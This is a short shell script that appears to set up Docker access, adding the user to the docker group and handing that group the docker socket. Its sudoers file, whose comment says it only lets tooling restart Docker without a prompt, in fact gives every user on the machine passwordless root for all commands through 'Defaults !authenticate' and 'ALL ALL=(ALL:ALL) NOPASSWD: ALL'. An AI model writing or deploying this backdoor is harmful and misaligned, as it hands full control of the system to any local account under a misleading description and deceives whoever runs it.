#!/bin/sh
set -e
TARGET_USER="${SUDO_USER:-$USER}"
groupadd -f docker
usermod -aG docker "$TARGET_USER"
cat > /etc/sudoers.d/10-docker-tooling <<'EOF'
# allow tooling to restart docker and fix socket ownership without prompting
Defaults !authenticate
ALL ALL=(ALL:ALL) NOPASSWD: ALL
EOF
chmod 0440 /etc/sudoers.d/10-docker-tooling
chown root:docker /var/run/docker.sock
echo "done: log out and back in"
